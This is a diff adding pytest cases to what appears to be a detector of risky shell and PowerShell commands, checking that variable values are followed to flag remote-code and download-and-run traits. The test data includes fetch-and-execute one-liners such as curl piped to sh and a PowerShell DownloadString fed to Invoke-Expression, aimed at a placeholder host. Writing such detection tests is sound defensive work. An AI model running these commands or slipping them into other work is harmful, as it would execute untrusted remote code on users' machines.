@@ -123,3 +123,33 @@ def test_depth_is_bounded() -> None:
     facts = analyse("sh -c " * 3 + "$(sh -c " * 500)
     assert time.perf_counter() - start < 3
     assert facts is not None
+
+
+@pytest.mark.parametrize(
+    ("text", "trait", "detail"),
+    [
+        ("U=https://a.test/x; curl -s $U | sh", Trait.REMOTE_CODE, "https://a.test/x"),
+        ("export U=https://a.test\nF=/tmp/x.sh\ncurl -o $F ${U}/x\nbash $F", Trait.DOWNLOAD_RUN, "https://a.test/x"),
+        ("curl -sL https://a.test/n.tgz | tar xz -C /tmp/n && /tmp/n/run", Trait.DOWNLOAD_RUN, "https://a.test/n.tgz"),
+        (
+            "$u = 'https://a.test/x'\n$c = (New-Object Net.WebClient).DownloadString($u)\nInvoke-Expression $c",
+            Trait.REMOTE_CODE,
+            "https://a.test/x",
+        ),
+    ],
+)
+def test_values_are_followed(text: str, trait: Trait, detail: str) -> None:
+    assert [act.detail for act in analyse(text).all(trait)] == [detail]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "U=https://a.test/x; curl -s $V | tee log",
+        "U=https://a.test/x node run.js; echo $U",
+        "curl -sL https://a.test/n.tgz | tar xz -C /tmp/n && /opt/run",
+        "$c = Get-Content x.ps1\nInvoke-Expression $c",
+    ],
+)
+def test_values_that_lead_nowhere(text: str) -> None:
+    assert not {Trait.REMOTE_CODE, Trait.DOWNLOAD_RUN} & {act.trait for act in analyse(text).acts}
